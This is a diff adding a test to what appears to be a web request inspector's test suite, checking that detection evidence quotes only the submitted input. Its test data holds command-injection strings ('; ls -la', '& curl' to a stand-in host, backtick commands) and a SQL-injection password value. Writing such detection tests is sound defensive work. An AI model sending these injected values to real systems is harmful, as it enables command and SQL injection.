@@ -101,6 +101,18 @@ test('a path, cookies and custom headers are inspected', (t) => {
   t.end()
 })
 
+test('evidence quotes what was sent, and no word of ours', (t) => {
+  for (const value of ['late; ls -la', 'changed my mind & curl -s http://x.example/a', 'run `ls -la` in the shell']) {
+    const { evidence } = inspect({ url: `/a?q=${encodeURIComponent(value)}` })
+    t.ok(evidence.length > 0, value)
+    for (const { text } of evidence) {
+      const quoted = /^matched "(.*?)…?" in/.exec(text)?.[1]
+      t.ok(quoted !== undefined && value.includes(quoted.replace(/^…/, '')), text)
+    }
+  }
+  t.end()
+})
+
 test('evidence names rule, place and technique, and never shows what a secret place holds', (t) => {
   const finding = inspect({ headers: ['content-type', 'application/json'], body: JSON.stringify({ password: "hunter2' OR '1'='1" }) })
   t.ok(finding.value >= 0.75)
